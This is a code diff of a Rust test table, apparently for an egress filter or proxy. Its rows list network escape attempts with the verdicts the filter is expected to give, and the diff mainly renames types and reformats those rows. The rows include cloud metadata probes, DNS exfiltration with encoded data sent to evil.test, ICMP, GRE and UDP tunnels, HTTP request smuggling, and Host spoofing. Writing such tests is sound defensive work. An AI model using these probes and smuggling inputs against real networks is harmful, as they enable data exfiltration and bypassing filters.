@@ -2,10 +2,10 @@
 
 #![expect(clippy::too_many_lines, reason = "a table is as long as it has rows")]
 
-use super::In::{Both, Enforce};
-use super::{Row, Try};
+use super::Modes::{Both, Enforce};
+use super::{Attempt, Row};
 
-/// All rows.
+/// Returns all rows.
 pub fn table() -> Vec<Row> {
     [addresses(), datagrams(), lookups(), connects(), requests(), openings()]
         .into_iter()
@@ -17,19 +17,19 @@ fn get(target: &str, host: &str) -> Vec<u8> {
     format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").into()
 }
 
-fn connect(target: &str) -> Try {
-    Try::Proxy(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").into())
+fn connect(target: &str) -> Attempt {
+    Attempt::Proxy(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").into())
 }
 
-fn post(fields: &str, body: &str) -> Try {
-    Try::Proxy(
+fn post(fields: &str, body: &str) -> Attempt {
+    Attempt::Proxy(
         format!("POST http://web.example/ HTTP/1.1\r\nHost: web.example\r\n{fields}\r\n{body}")
             .into(),
     )
 }
 
 fn addresses() -> Vec<Row> {
-    let tcp = |to| Try::Tcp(to, get("/", "x"));
+    let tcp = |to| Attempt::Tcp(to, get("/", "x"));
     vec![
         ("metadata service", Both, tcp("169.254.169.254:80"), "169.254.169.254:80 address"),
         ("metadata of containers", Both, tcp("169.254.170.2:80"), "169.254.170.2:80 address"),
@@ -63,46 +63,56 @@ fn addresses() -> Vec<Row> {
 fn datagrams() -> Vec<Row> {
     let query = b"\0\x01\x01\0\0\x01\0\0\0\0\0\0\x01x\x04test\0\0\x01\0\x01".to_vec();
     vec![
-        ("DNS to a public resolver", Both, Try::Udp("8.8.8.8:53", query), "8.8.8.8:53 protocol"),
-        ("QUIC", Both, Try::Udp("192.0.32.8:443", vec![0xc3; 1200]), "192.0.32.8:443 protocol"),
+        (
+            "DNS to a public resolver",
+            Both,
+            Attempt::Udp("8.8.8.8:53", query),
+            "8.8.8.8:53 protocol",
+        ),
+        ("QUIC", Both, Attempt::Udp("192.0.32.8:443", vec![0xc3; 1200]), "192.0.32.8:443 protocol"),
         (
             "UDP tunnel",
             Both,
-            Try::Udp("192.0.32.8:51820", vec![1; 148]),
+            Attempt::Udp("192.0.32.8:51820", vec![1; 148]),
             "192.0.32.8:51820 protocol",
         ),
         (
             "time service",
             Both,
-            Try::Udp("192.0.32.8:123", vec![0x23; 48]),
+            Attempt::Udp("192.0.32.8:123", vec![0x23; 48]),
             "192.0.32.8:123 protocol",
         ),
         (
             "ICMP tunnel",
             Both,
-            Try::Raw("192.0.32.8", 1, vec![8, 0, 0xf7, 0xff, 0, 0, 0, 0]),
+            Attempt::Raw("192.0.32.8", 1, vec![8, 0, 0xf7, 0xff, 0, 0, 0, 0]),
             "192.0.32.8:0 protocol",
         ),
-        ("GRE tunnel", Both, Try::Raw("192.0.32.9", 47, vec![0; 8]), "192.0.32.9:0 protocol"),
-        ("IP in IP", Both, Try::Raw("192.0.32.10", 4, vec![0x45; 20]), "192.0.32.10:0 protocol"),
-        ("SCTP", Both, Try::Raw("192.0.32.11", 132, vec![0; 12]), "192.0.32.11:0 protocol"),
-        ("a raw frame", Both, Try::Frame(0x88b5, b"out".to_vec()), ":0 protocol"),
+        ("GRE tunnel", Both, Attempt::Raw("192.0.32.9", 47, vec![0; 8]), "192.0.32.9:0 protocol"),
+        (
+            "IP in IP",
+            Both,
+            Attempt::Raw("192.0.32.10", 4, vec![0x45; 20]),
+            "192.0.32.10:0 protocol",
+        ),
+        ("SCTP", Both, Attempt::Raw("192.0.32.11", 132, vec![0; 12]), "192.0.32.11:0 protocol"),
+        ("a raw frame", Both, Attempt::Frame(0x88b5, b"out".to_vec()), ":0 protocol"),
         (
             "an IPv6 connection",
             Both,
-            Try::Frame(0x86dd, ipv6(6, "2001:db8::1", &[0, 1, 1, 0xbb])),
+            Attempt::Frame(0x86dd, ipv6(6, "2001:db8::1", &[0, 1, 1, 0xbb])),
             "2001:db8::1:443 protocol",
         ),
         (
             "IPv6 metadata",
             Both,
-            Try::Frame(0x86dd, ipv6(6, "fd00:ec2::254", &[0, 1, 0, 80])),
+            Attempt::Frame(0x86dd, ipv6(6, "fd00:ec2::254", &[0, 1, 0, 80])),
             "fd00:ec2::254:80 protocol",
         ),
         (
             "a router advertisement",
             Both,
-            Try::Frame(0x86dd, ipv6(58, "ff02::1", &[134, 0])),
+            Attempt::Frame(0x86dd, ipv6(58, "ff02::1", &[134, 0])),
             "ff02::1:0 protocol",
         ),
     ]
@@ -122,24 +132,29 @@ fn lookups() -> Vec<Row> {
         (
             "data in a name",
             Enforce,
-            Try::Dns(b"\x10c2VjcmV0c2VjcmV0\x04evil\x04test\0", 1),
+            Attempt::Dns(b"\x10c2VjcmV0c2VjcmV0\x04evil\x04test\0", 1),
             "c2vjcmv0c2vjcmv0.evil.test:0 no-rule",
         ),
         (
             "data in a TXT query",
             Enforce,
-            Try::Dns(b"\x04evil\x04test\0", 16),
+            Attempt::Dns(b"\x04evil\x04test\0", 16),
             "evil.test:0 no-rule",
         ),
-        ("a NULL query", Enforce, Try::Dns(b"\x05evil2\x04test\0", 10), "evil2.test:0 no-rule"),
+        ("a NULL query", Enforce, Attempt::Dns(b"\x05evil2\x04test\0", 10), "evil2.test:0 no-rule"),
         (
             "a homograph",
             Enforce,
-            Try::Dns(b"\x03web\x0exn--exmple-cua\0", 1),
+            Attempt::Dns(b"\x03web\x0exn--exmple-cua\0", 1),
             "web.xn--exmple-cua:0 no-rule",
         ),
-        ("a dot within a label", Both, Try::Dns(b"\x0bweb.example\0", 1), "host"),
-        ("bytes that are no name", Both, Try::Dns(b"\x03\xff\xfe\xfd\x07example\0", 1), "host"),
+        ("a dot within a label", Both, Attempt::Dns(b"\x0bweb.example\0", 1), "host"),
+        (
+            "bytes that are not a name",
+            Both,
+            Attempt::Dns(b"\x03\xff\xfe\xfd\x07example\0", 1),
+            "host",
+        ),
     ]
 }
 
@@ -225,19 +240,21 @@ fn connects() -> Vec<Row> {
         (
             "a NUL in the name",
             Both,
-            Try::Proxy(b"CONNECT web.example\0.evil:443 HTTP/1.1\r\n\r\n".into()),
+            Attempt::Proxy(b"CONNECT web.example\0.evil:443 HTTP/1.1\r\n\r\n".into()),
             "172.31.0.1:3128 request",
         ),
         (
             "another Host than the target",
             Both,
-            Try::Proxy(b"CONNECT web.example:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n".into()),
+            Attempt::Proxy(
+                b"CONNECT web.example:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n".into(),
+            ),
             "web.example:443 host-mismatch",
         ),
         (
             "bytes after CONNECT",
             Both,
-            Try::Proxy(
+            Attempt::Proxy(
                 b"CONNECT web.example:443 HTTP/1.1\r\nHost: web.example\r\n\r\n\x16\x03\x01".into(),
             ),
             "172.31.0.1:3128 request",
@@ -246,9 +263,9 @@ fn connects() -> Vec<Row> {
 }
 
 fn requests() -> Vec<Row> {
-    let proxy = |target, host| Try::Proxy(get(target, host));
-    let raw = |text: &str| Try::Proxy(text.into());
-    let broken = "172.31.0.1:3128 request";
+    let proxy = |target, host| Attempt::Proxy(get(target, host));
+    let raw = |text: &str| Attempt::Proxy(text.into());
+    let malformed = "172.31.0.1:3128 request";
     vec![
         (
             "a URL unlike its Host",
@@ -293,42 +310,47 @@ fn requests() -> Vec<Row> {
             "CL and TE",
             Both,
             post("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"),
-            broken,
+            malformed,
         ),
         (
             "TE and CL",
             Both,
             post("Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", "0\r\n\r\n"),
-            broken,
+            malformed,
         ),
-        ("two lengths", Both, post("Content-Length: 0\r\nContent-Length: 4\r\n", ""), broken),
-        ("an odd encoding", Both, post("Transfer-Encoding: x, chunked\r\n", ""), broken),
-        ("a blank before the colon", Both, post("Content-Length : 4\r\n", "abcd"), broken),
-        ("a folded field", Both, post("X: a\r\n b\r\n", ""), broken),
-        ("a bare line feed", Both, post("X: a\nContent-Length: 4\r\n", ""), broken),
-        ("a bare carriage return", Both, post("X: a\rb\r\n", ""), broken),
-        ("two Hosts", Both, post("Host: evil.test\r\n", ""), broken),
+        ("two lengths", Both, post("Content-Length: 0\r\nContent-Length: 4\r\n", ""), malformed),
+        ("an odd encoding", Both, post("Transfer-Encoding: x, chunked\r\n", ""), malformed),
+        ("a blank before the colon", Both, post("Content-Length : 4\r\n", "abcd"), malformed),
+        ("a folded field", Both, post("X: a\r\n b\r\n", ""), malformed),
+        ("a bare line feed", Both, post("X: a\nContent-Length: 4\r\n", ""), malformed),
+        ("a bare carriage return", Both, post("X: a\rb\r\n", ""), malformed),
+        ("two Hosts", Both, post("Host: evil.test\r\n", ""), malformed),
         (
             "a chunk extension",
             Both,
             post("Transfer-Encoding: chunked\r\n", "4;a\r\nabcd\r\n"),
-            broken,
+            malformed,
         ),
-        ("a long chunk", Both, post("Transfer-Encoding: chunked\r\n", "4\r\nabcdef\r\n"), broken),
-        ("HTTP/2", Both, raw("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), broken),
-        ("HTTP/0.9", Both, raw("GET http://web.example/\r\n\r\n"), broken),
-        ("no HTTP at all", Both, raw("SSH-2.0-OpenSSH\r\n\r\n"), broken),
+        (
+            "a long chunk",
+            Both,
+            post("Transfer-Encoding: chunked\r\n", "4\r\nabcdef\r\n"),
+            malformed,
+        ),
+        ("HTTP/2", Both, raw("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), malformed),
+        ("HTTP/0.9", Both, raw("GET http://web.example/\r\n\r\n"), malformed),
+        ("no HTTP at all", Both, raw("SSH-2.0-OpenSSH\r\n\r\n"), malformed),
     ]
 }
 
 fn openings() -> Vec<Row> {
-    let name = |port, bytes: &[u8]| Try::Name("web.example", port, bytes.to_vec());
+    let name = |port, bytes: &[u8]| Attempt::Name("web.example", port, bytes.to_vec());
     vec![
         ("no TLS on 443", Enforce, name(443, b"SSH-2.0-x\r\n"), "web.example:443 not-tls"),
         (
             "HTTP on 443",
             Enforce,
-            Try::Name("web.example", 443, get("/", "web.example")),
+            Attempt::Name("web.example", 443, get("/", "web.example")),
             "web.example:443 not-tls",
         ),
         ("SSLv2", Enforce, name(443, b"\x80\x2e\x01\x00\x02"), "web.example:443 not-tls"),
@@ -347,13 +369,13 @@ fn openings() -> Vec<Row> {
         (
             "another Host on 80",
             Enforce,
-            Try::Name("web.example", 80, get("/", "evil.test")),
+            Attempt::Name("web.example", 80, get("/", "evil.test")),
             "web.example:80 host-mismatch",
         ),
         (
             "an absolute URL on 80",
             Enforce,
-            Try::Name("web.example", 80, get("http://evil.test/", "evil.test")),
+            Attempt::Name("web.example", 80, get("http://evil.test/", "evil.test")),
             "web.example:80 host-mismatch",
         ),
         ("no HTTP on 80", Enforce, name(80, b"SSH-2.0-x\r\n\r\n"), "web.example:80 request"),
